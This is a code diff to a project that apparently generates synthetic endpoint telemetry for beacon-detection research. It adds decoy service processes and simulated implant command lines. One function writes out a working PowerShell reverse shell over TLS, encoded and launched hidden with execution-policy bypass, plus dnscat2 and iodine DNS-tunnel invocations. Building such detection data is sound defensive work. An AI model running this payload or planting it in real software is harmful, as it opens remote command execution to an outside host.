@@ -38,6 +38,7 @@ from beaconhunt.synth import catalog
 from beaconhunt.synth.flows import Label
 from beaconhunt.synth.implants import HiddenBeacon
 from beaconhunt.synth.scenario import FAMILIES
+from beaconhunt.synth.shapes.kinds import SHAPE_IMPLANTS
 from beaconhunt.synth.world import Host
 from beaconhunt.synth.zoo import ZOO
 
@@ -151,6 +152,23 @@ _BASE: tuple[ProcSpec, ...] = (
         "C:\\Program Files (x86)\\Google\\GoogleUpdater\\updater.exe",
         '"C:\\Program Files (x86)\\Google\\GoogleUpdater\\updater.exe" --system '
         "--windows-service --service=update",
+        "services",
+        "system",
+        "boot",
+    ),
+    # services of the shapes' look-alikes (:mod:`beaconhunt.synth.shapes`)
+    ProcSpec(
+        "mcafee_tp",
+        "C:\\Program Files\\McAfee\\Endpoint Security\\Threat Prevention\\mfetp.exe",
+        '"C:\\Program Files\\McAfee\\Endpoint Security\\Threat Prevention\\mfetp.exe"',
+        "services",
+        "system",
+        "boot",
+    ),
+    ProcSpec(
+        "nwinsight",
+        "C:\\Program Files\\Northwind\\Insight Agent\\nwiagent.exe",
+        '"C:\\Program Files\\Northwind\\Insight Agent\\nwiagent.exe" --service',
         "services",
         "system",
         "boot",
@@ -280,7 +298,7 @@ def _zoo_versions() -> dict[str, VersionInfo]:
 
 def process_key(lab: Label, image: str) -> str:
     """The process (key) that makes a connection of label ``lab`` whose image is ``image``."""
-    if lab.kind in FAMILIES:
+    if lab.kind in FAMILIES or lab.kind in SHAPE_IMPLANTS:
         return f"implant:{lab.kind}"
     if lab.process == "{browser}":
         return "browser"
@@ -373,6 +391,8 @@ def implant_specs(
 ) -> tuple[list[ProcSpec], list[Persistence]]:
     """The process chain of one implant (the check-in process last) and what it persists."""
     family = beacon.family
+    if family in SHAPE_IMPLANTS:
+        return _shape_specs(beacon, rng), []
     image = catalog.FAMILY_PROFILES[family].process
     key = f"implant:{family}"
     token = base64.urlsafe_b64encode(rng.bytes(6)).decode().rstrip("=")
@@ -433,3 +453,39 @@ def implant_specs(
         return [cmd, spec], [Persistence(11, startup)]
     hta = f'"{image}" {url}.hta'
     return [ProcSpec(key, image, hta, "explorer", "user", "lazy", home + "Downloads\\")], []
+
+
+def _shape_specs(beacon: HiddenBeacon, rng: np.random.Generator) -> list[ProcSpec]:
+    """The process chain of an implant of :mod:`beaconhunt.synth.shapes`."""
+    family = beacon.family
+    key = f"implant:{family}"
+    image = beacon.process
+    home = "C:\\Users\\{user}\\"
+    folder = image.rsplit("\\", 1)[0] + "\\"
+    if "\\users\\" in image.lower():  # the path per host again, with {user}
+        rest = image.split("\\", 3)[3]
+        image, folder = home + rest, home + rest.rsplit("\\", 1)[0] + "\\"
+    if family == "interactive_c2" and image.lower() == _POWERSHELL.lower():
+        host, port = beacon.dst, beacon.dst_port
+        script = (
+            f"$c=New-Object Net.Sockets.TcpClient('{host}',{port});"
+            "$s=New-Object Net.Security.SslStream($c.GetStream(),$false,{$true});"
+            f"$s.AuthenticateAsClient('{host}');"
+            "while($true){$b=New-Object byte[] 65536;$n=$s.Read($b,0,$b.Length);"
+            "if($n -le 0){break};$o=(iex ([Text.Encoding]::UTF8.GetString($b,0,$n)) 2>&1|"
+            "Out-String);$r=[Text.Encoding]::UTF8.GetBytes($o);$s.Write($r,0,$r.Length)}"
+        )
+        enc = base64.b64encode(script.encode("utf-16-le")).decode()
+        command = f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {enc}"
+        return [ProcSpec(key, image, command, "explorer", "user", "lazy", home + "Documents\\")]
+    if family == "dnscat2":
+        secret = rng.bytes(16).hex()
+        command = f'"{image}" --dns domain={beacon.dst} --secret={secret}'
+        cmd = ProcSpec("cmd", _SYS32 + "cmd.exe",
+                       f'"C:\\Windows\\system32\\cmd.exe" /c start /b "" "{image}"',
+                       "explorer", "user", "lazy", folder)  # fmt: skip
+        return [cmd, ProcSpec(key, image, command, "cmd", "user", "lazy", folder)]
+    if family == "iodine":
+        command = f'"{image}" -f -r -P {rng.bytes(6).hex()} t.{beacon.dst}'
+        return [ProcSpec(key, image, command, "explorer", "user", "lazy", folder)]
+    return [ProcSpec(key, image, f'"{image}"', "explorer", "user", "lazy", folder)]
